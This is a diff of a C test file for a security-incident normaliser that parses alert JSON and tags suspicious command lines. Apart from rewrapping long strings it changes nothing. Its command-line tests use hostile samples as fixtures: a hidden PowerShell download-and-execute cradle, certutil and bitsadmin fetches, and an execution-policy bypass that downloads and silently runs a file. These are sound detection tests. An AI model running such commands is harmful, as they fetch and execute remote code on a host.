@@ -97,11 +97,15 @@ static const char c3[] =
 "\"FQDN\":\"alert-windows\"},"
 "{\"$id\":\"3\",\"Name\":\"defenderadm\",\"NTDomain\":\"alert-windows\","
 "\"Sid\":\"S-1-5-21-1-2-3-1000\",\"IsDomainJoined\":true,\"Type\":\"account\"},"
-"{\"$id\":\"4\",\"ProcessId\":\"7908\",\"CommandLine\":\"powershell.exe -NoExit\","
-"\"ElevationToken\":\"Full\",\"CreationTimeUtc\":\"2023-04-18T13:10:09.0734545Z\","
+"{\"$id\":\"4\",\"ProcessId\":\"7908\",\"CommandLine\":\"powershell.exe -NoEx"
+"it\","
+"\"ElevationToken\":\"Full\",\"CreationTimeUtc\":\"2023-04-18T13:10:09.073454"
+"5Z\","
 "\"ImageFile\":{\"$id\":\"5\",\"Directory\":\"C:\\\\Windows\\\\System32\\\\"
-"WindowsPowerShell\\\\v1.0\",\"Name\":\"powershell.exe\",\"FileHashes\":[{\"$id\":"
-"\"6\",\"Algorithm\":\"SHA256\",\"Value\":\"DE96A6E69944335375DC1AC238336066889D"
+"WindowsPowerShell\\\\v1.0\",\"Name\":\"powershell.exe\",\"FileHashes\":[{\"$"
+"id\":"
+"\"6\",\"Algorithm\":\"SHA256\",\"Value\":\"DE96A6E69944335375DC1AC2383360668"
+"89D"
 "9FFC7D73628EF4FE1B1B160AB32C\",\"Type\":\"filehash\"}],\"Type\":\"file\"},"
 "\"ParentProcess\":{\"$id\":\"7\",\"ProcessId\":\"2056\",\"Type\":\"process\"},"
 "\"Account\":{\"$ref\":\"3\"},\"Host\":{\"$ref\":\"2\"},\"Type\":\"process\"},"
@@ -290,10 +294,13 @@ test_entities_across_alerts(void)
 	char err[256];
 
 	rows = parse("[{\"SystemAlertId\":\"a1\",\"AlertName\":\"one\","
-	    "\"Entities\":\"[{\\\"$id\\\":\\\"2\\\",\\\"HostName\\\":\\\"WS1\\\","
+	    "\"Entities\":\"[{\\\"$id\\\":\\\"2\\\",\\\"HostName\\\":\\\"WS1"
+	    "\\\","
 	    "\\\"Type\\\":\\\"host\\\"},{\\\"$id\\\":\\\"3\\\",\\\"Name\\\":"
-	    "\\\"alice\\\",\\\"Sid\\\":\\\"S-1-5-21-9-9-9-1105\\\",\\\"Host\\\":"
-	    "{\\\"$ref\\\":\\\"2\\\"},\\\"Type\\\":\\\"account\\\"},{\\\"$id\\\":"
+	    "\\\"alice\\\",\\\"Sid\\\":\\\"S-1-5-21-9-9-9-1105\\\",\\\"Host\\"
+	    "\":"
+	    "{\\\"$ref\\\":\\\"2\\\"},\\\"Type\\\":\\\"account\\\"},{\\\"$id"
+	    "\\\":"
 	    "\\\"4\\\",\\\"Name\\\":\\\"administrator\\\",\\\"Host\\\":"
 	    "{\\\"$ref\\\":\\\"2\\\"},\\\"Type\\\":\\\"account\\\"},"
 	    "{\\\"$id\\\":\\\"5\\\",\\\"Directory\\\":\\\"C:\\\\\\\\Temp\\\","
@@ -302,13 +309,18 @@ test_entities_across_alerts(void)
 	    "\"Entities\":[{\"$id\":\"7\",\"HostName\":\"ws1\",\"OSFamily\":"
 	    "\"Windows\",\"Type\":\"host\"},{\"$id\":\"8\",\"Name\":\"ALICE\","
 	    "\"NTDomain\":\"CORP\",\"Sid\":\"s-1-5-21-9-9-9-1105\",\"Type\":"
-	    "\"account\"},{\"$id\":\"9\",\"HostName\":\"WS2\",\"Type\":\"host\"},"
-	    "{\"$id\":\"10\",\"Name\":\"administrator\",\"Host\":{\"$ref\":\"9\"},"
-	    "\"Type\":\"account\"},{\"$id\":\"11\",\"Directory\":\"c:\\\\temp\","
-	    "\"Name\":\"A.EXE\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Value\":"
+	    "\"account\"},{\"$id\":\"9\",\"HostName\":\"WS2\",\"Type\":\"host"
+	    "\"},"
+	    "{\"$id\":\"10\",\"Name\":\"administrator\",\"Host\":{\"$ref\":\""
+	    "9\"},"
+	    "\"Type\":\"account\"},{\"$id\":\"11\",\"Directory\":\"c:\\\\temp"
+	    "\","
+	    "\"Name\":\"A.EXE\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Valu"
+	    "e\":"
 	    "\"0123456789abcdef0123456789abcdef\",\"Type\":\"filehash\"}],"
 	    "\"Type\":\"file\"},{\"$id\":\"12\",\"Directory\":\"c:\\\\other\","
-	    "\"Name\":\"b.exe\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Value\":"
+	    "\"Name\":\"b.exe\",\"FileHashes\":[{\"Algorithm\":\"MD5\",\"Valu"
+	    "e\":"
 	    "\"0123456789ABCDEF0123456789ABCDEF\",\"Type\":\"filehash\"}],"
 	    "\"Type\":\"file\"}]}]");
 	out = incident_normalise(rows, "test", w, err, sizeof(err));
@@ -361,17 +373,22 @@ test_entities_rest(void)
 	    "\"entities\":{\"entities\":["
 	    "{\"id\":\"/e/h\",\"kind\":\"Host\",\"properties\":{\"hostName\":"
 	    "\"srv\",\"dnsDomain\":\"corp.local\"}},"
-	    "{\"id\":\"/e/p\",\"kind\":\"Process\",\"properties\":{\"processId\":"
+	    "{\"id\":\"/e/p\",\"kind\":\"Process\",\"properties\":{\"processI"
+	    "d\":"
 	    "\"42\",\"commandLine\":\"x\",\"hostEntityId\":\"/e/h\","
-	    "\"parentProcessEntityId\":\"/e/p\",\"imageFileEntityId\":\"/e/f\"}},"
+	    "\"parentProcessEntityId\":\"/e/p\",\"imageFileEntityId\":\"/e/f"
+	    "\"}},"
 	    "{\"id\":\"/e/f\",\"kind\":\"File\",\"properties\":{\"fileName\":"
 	    "\"x.exe\",\"directory\":\"/usr/bin\",\"fileHashEntityIds\":"
 	    "[\"/e/fh\",\"/e/missing\"]}},"
-	    "{\"id\":\"/e/fh\",\"kind\":\"FileHash\",\"properties\":{\"algorithm\":"
-	    "\"SHA1\",\"hashValue\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}},"
+	    "{\"id\":\"/e/fh\",\"kind\":\"FileHash\",\"properties\":{\"algori"
+	    "thm\":"
+	    "\"SHA1\",\"hashValue\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+	    "A\"}},"
 	    "{\"id\":\"/e/d\",\"kind\":\"DnsResolution\",\"properties\":"
 	    "{\"domainName\":\"Evil.Example.\"}},"
-	    "{\"id\":\"/e/m\",\"kind\":\"Malware\",\"properties\":{\"malwareName\":"
+	    "{\"id\":\"/e/m\",\"kind\":\"Malware\",\"properties\":{\"malwareN"
+	    "ame\":"
 	    "\"x\"}}, 5, {\"kind\":\"Ip\"}]}}");
 	out = incident_normalise(in, NULL, NULL, err, sizeof(err));
 	ents = json_object_get(json_array_get(out, 0), "entities");
@@ -408,8 +425,10 @@ test_entities_graph(void)
 	    "\"informational\",\"status\":\"inProgress\",\"assignedTo\":"
 	    "\"kai@contoso.com\",\"classification\":\"truePositive\","
 	    "\"determination\":\"malware\",\"alerts\":[{\"id\":\"da1\","
-	    "\"title\":\"x\",\"status\":\"inProgress\",\"severity\":\"unknown\","
-	    "\"category\":\"DefenseEvasion\",\"mitreTechniques\":[\"T1564.001\"],"
+	    "\"title\":\"x\",\"status\":\"inProgress\",\"severity\":\"unknown"
+	    "\","
+	    "\"category\":\"DefenseEvasion\",\"mitreTechniques\":[\"T1564.001"
+	    "\"],"
 	    "\"evidence\":[{\"@odata.type\":\"#microsoft.graph.security."
 	    "processEvidence\",\"processId\":4780,\"processCommandLine\":"
 	    "\"\\\"MsSense.exe\\\"\",\"mdeDeviceId\":\"DEV1\",\"userAccount\":"
@@ -421,7 +440,8 @@ test_entities_graph(void)
 	    "\"mdeDeviceId\":\"dev1\"},{\"@odata.type\":\"#microsoft.graph."
 	    "security.mailboxEvidence\",\"primaryAddress\":\"a@b.example\","
 	    "\"userAccount\":{\"userPrincipalName\":\"a@b.example\"}},"
-	    "{\"@odata.type\":\"#microsoft.graph.security.amazonResourceEvidence"
+	    "{\"@odata.type\":\"#microsoft.graph.security.amazonResourceEvide"
+	    "nce"
 	    "\",\"amazonResourceId\":\"x\"},{\"no\":\"type\"}, 3]}]},"
 	    "{\"id\":\"13\",\"displayName\":\"h\",\"status\":\"resolved\","
 	    "\"lastUpdateDateTime\":\"2024-01-01T00:00:00Z\"}]}");
@@ -503,7 +523,8 @@ test_cmdline_flags(void)
 		  "encoded_command" },
 		{ "pwsh -e abc", NULL, "encoded_command" },
 		{ "PowerShell /ec abc", NULL, "encoded_command" },
-		{ "powershell \xe2\x80\x93" "enc abc", NULL, "encoded_command" },
+		{ "powershell \xe2\x80\x93" "enc abc", NULL,
+		  "encoded_command" },
 		{ "-enc abc", "powershell.exe", "encoded_command" },
 		{ "cmd.exe /c echo -enc abc", NULL, "" },
 		{ "powershell -ExecutionPolicy Bypass -File x.ps1", NULL,
@@ -514,14 +535,16 @@ test_cmdline_flags(void)
 		{ "powershell -ExecutionPolicy RemoteSigned", NULL, "" },
 		{ "powershell Set-ExecutionPolicy Bypass -Scope Process", NULL,
 		  "execution_policy_bypass" },
-		{ "powershell -w hidden -nop -c \"iex(New-Object Net.WebClient)."
+		{ "powershell -w hidden -nop -c \"iex(New-Object Net.WebClien"
+		    "t)."
 		  "DownloadString('http://x')\"", NULL,
 		  "hidden_window,download_cradle" },
 		{ "certutil.exe -urlcache -split -f http://x/a.exe a.exe", NULL,
 		  "download_cradle" },
 		{ "bitsadmin /transfer j http://x/a c:\\a", NULL,
 		  "download_cradle" },
-		{ "curl.exe https://x.example/a -o a", NULL, "download_cradle" },
+		{ "curl.exe https://x.example/a -o a", NULL,
+		  "download_cradle" },
 		{ "curl --version", NULL, "" },
 		{ "notepad.exe c:\\curl\\readme.txt", NULL, "" },
 		{ "notepad.exe", "powershell.exe", "" },
@@ -529,7 +552,8 @@ test_cmdline_flags(void)
 		  "\"Invoke-WebRequest -Uri 'https://sacyberrange00.blob.core."
 		  "windows.net/vm-applications/7z2408-x64.exe' -OutFile "
 		  "C:\\ProgramData\\7z2408-x64.exe; Start-Process "
-		  "'C:\\programdata\\7z2408-x64.exe' -ArgumentList '/S' -Wait\"",
+		  "'C:\\programdata\\7z2408-x64.exe' -ArgumentList '/S' -Wait"
+		  "\"",
 		  NULL, "execution_policy_bypass,download_cradle" },
 	};
 	json_t *f, *e;
@@ -596,7 +620,8 @@ test_csv(void)
 	json_decref(r);
 	r = incident_csv_parse("a,b\n1,2,3\n", 10, "t.csv", err, sizeof(err));
 	ok(r == NULL, "csv: a ragged row is an error");
-	is_str(err, "t.csv:2: expected 2 fields, found 3", "csv: with its line");
+	is_str(err, "t.csv:2: expected 2 fields, found 3", "csv: with its lin"
+	    "e");
 	r = incident_csv_parse("a\n\"x\ny\nz", 9, "t.csv", err, sizeof(err));
 	ok(r == NULL && strstr(err, "not closed") != NULL,
 	    "csv: an unclosed quote is an error");
@@ -733,7 +758,8 @@ test_queue(void)
 	size_t i;
 	int64_t t;
 
-	recs = parse("[{\"type\":\"incident\",\"number\":1,\"severity\":\"Low\","
+	recs = parse("[{\"type\":\"incident\",\"number\":1,\"severity\":\"Low"
+	    "\","
 	    "\"status\":\"New\",\"created\":\"2024-01-02T00:00:00Z\",\"owner\":"
 	    "{\"name\":null}},"
 	    "{\"type\":\"incident\",\"number\":2,\"severity\":\"High\","
